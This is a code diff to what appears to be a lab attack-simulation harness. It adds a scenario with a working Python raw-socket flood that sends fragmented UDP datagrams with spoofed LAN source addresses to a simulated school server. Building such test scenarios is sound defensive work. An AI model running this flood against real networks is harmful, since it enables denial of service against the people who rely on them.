@@ -115,6 +115,72 @@ def udp_long_fragment_flood_random_sources(lan: SchoolLan, small: bool = False) 
     )
 
 
+# hping3's --rand-source draws from all of IPv4, whose answers go to the gateway: a flood
+# from the LAN's own free addresses is built here (16-byte IPv4 fragments as hping3 -f
+# cuts them, checksums computed), each datagram from the next address, round after round.
+_LAN_FRAGMENTS = """
+import socket, struct, sys, time
+iface, dst, src_mac, dst_mac = sys.argv[1:5]
+count, rate = int(sys.argv[5]), float(sys.argv[6])
+taken = {1, 10, 66, 101, 102, 103}
+sources = [socket.inet_aton("10.77.0.%d" % x) for x in range(20, 251) if x not in taken]
+to = socket.inet_aton(dst)
+def csum(b):
+    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
+    while s >> 16:
+        s = (s & 0xFFFF) + (s >> 16)
+    return ~s & 0xFFFF
+eth = bytes.fromhex(dst_mac.replace(":", "")) + bytes.fromhex(src_mac.replace(":", ""))
+def datagram(i):
+    src = sources[i % len(sources)]
+    udp = struct.pack("!HHHH", 40000 + i % 20000, 80, 48, 0) + b"X" * 40
+    sum_ = csum(src + to + struct.pack("!BBH", 0, 17, 48) + udp) or 0xFFFF
+    udp = udp[:6] + struct.pack("!H", sum_) + udp[8:]
+    out = []
+    for off in range(0, 48, 16):
+        flags = (0x2000 if off + 16 < 48 else 0) | off // 8
+        ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 36, i + 1, flags, 64, 17, 0, src, to)
+        ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
+        out.append(eth + b"\\x08\\x00" + ip + udp[off : off + 16])
+    return out
+s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+s.bind((iface, 0))
+start = time.monotonic()
+deadline = start + 20
+for i in range(count):
+    if time.monotonic() > deadline:
+        break
+    for f in datagram(i):
+        s.send(f)
+    late = start + (i + 1) / rate - time.monotonic()
+    if late > 0:
+        time.sleep(late)
+s.close()
+print("sent", i + 1, "datagrams from", len(sources), "addresses")
+"""
+
+
+def udp_fragment_flood_lan_sources(lan: SchoolLan, small: bool = False) -> Outcome:
+    """UDP in 16-byte IPv4 fragments to the server from the LAN's 227 free addresses, one
+    datagram from each in turn: the server asks ARP for every one it answers."""
+    atk, srv = lan.attacker, lan.srv
+    args = [IF, srv.ip, atk.mac, srv.mac, "3000", "2000"]
+    out = _bounded(lan, atk.ns, 30, sys.executable, "-c", _LAN_FRAGMENTS, *args)
+    return Outcome(
+        "udp_fragment_flood_lan_sources",
+        ("flood",),  # kind fragments
+        "python -c <UDP datagrams of 48 bytes to port 80 in 16-byte IPv4 fragments from "
+        "10.77.0.20-250> " + " ".join(args),
+        f"UDP datagrams of 48 bytes to the server ({srv.ip}) port 80 split into three "
+        "16-byte IPv4 fragments, each datagram from the next of the LAN's 227 free "
+        "addresses (10.77.0.20-250; one MAC: the attacker's; hping3's --rand-source draws "
+        "from all of IPv4), 3,000 at about 2,000 a second",
+        atk,
+        "python",
+        notes={"output_tail": out[-300:], "no_single_source": True, **_KIND},
+    )
+
+
 SCENARIOS = {
     "ipv6_fragment_flood": Scenario("ipv6_fragment_flood", (), ipv6_fragment_flood),
     "udp_fragment_flood_random_sources": Scenario(
@@ -124,5 +190,8 @@ SCENARIOS = {
         "udp_long_fragment_flood_random_sources",
         ("hping3",),
         udp_long_fragment_flood_random_sources,
+    ),
+    "udp_fragment_flood_lan_sources": Scenario(
+        "udp_fragment_flood_lan_sources", (), udp_fragment_flood_lan_sources
     ),
 }
